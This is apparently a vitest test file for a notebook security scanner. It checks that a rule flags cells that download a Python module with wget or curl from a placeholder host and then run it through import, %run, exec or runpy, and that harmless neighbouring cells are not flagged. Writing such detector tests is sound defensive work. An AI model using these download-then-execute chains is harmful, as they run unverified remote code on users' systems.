// A module that a command fetches and a later cell loads: downloaded and run, in two steps.
import { describe, expect, it } from 'vitest';
import { inspectBytes } from '../../support/inspect.ts';

async function told(...cells: string[]): Promise<string[]> {
  const notebook = {
    cells: cells.map((source) => ({
      cell_type: 'code',
      execution_count: null,
      metadata: {},
      outputs: [],
      source,
    })),
    metadata: {},
    nbformat: 4,
    nbformat_minor: 5,
  };
  const { findings } = await inspectBytes(Buffer.from(JSON.stringify(notebook)), 'a.ipynb');
  const counted = findings.filter(({ severity }) => severity !== 'LOW' && severity !== 'INFO');
  return counted.map(({ rule, severity, location }) => `${severity} ${rule} ${location.cell}`);
}

const FETCH = '!wget https://files.example.invalid/steps.py';

describe('a module that is fetched', () => {
  it.each([
    'import steps',
    'from steps import first',
    '%run steps.py',
    'exec(open("steps.py").read())',
    'import runpy; runpy.run_path("./steps.py")',
  ])('is run by %s', async (runs) => {
    expect(await told(FETCH, runs)).toEqual(['HIGH CODE-PIPE-SHELL 2']);
  });

  it('is told once', async () => {
    expect(
      await told('!curl -o steps.py https://files.example.invalid/a', 'import steps', 'import steps'),
    ).toEqual(['HIGH CODE-PIPE-SHELL 2']);
  });

  it('is for review where the code of a project is kept', async () => {
    const fetch = '!wget https://raw.githubusercontent.com/example/course/main/helper_functions.py';
    expect(await told(fetch, 'from helper_functions import plot')).toEqual(['MEDIUM CODE-PIPE-SHELL 2']);
  });

  it.each([
    [FETCH, 'import numpy'],
    ['import steps', FETCH],
    ['!ls steps.py', 'import steps'],
    ['!wget https://files.example.invalid/steps.csv', 'import steps'],
    [FETCH, 'text = open("steps.py").read()'],
  ])('is not run by what stands beside it: %s, %s', async (...cells) => {
    expect(await told(...cells)).toEqual([]);
  });
});
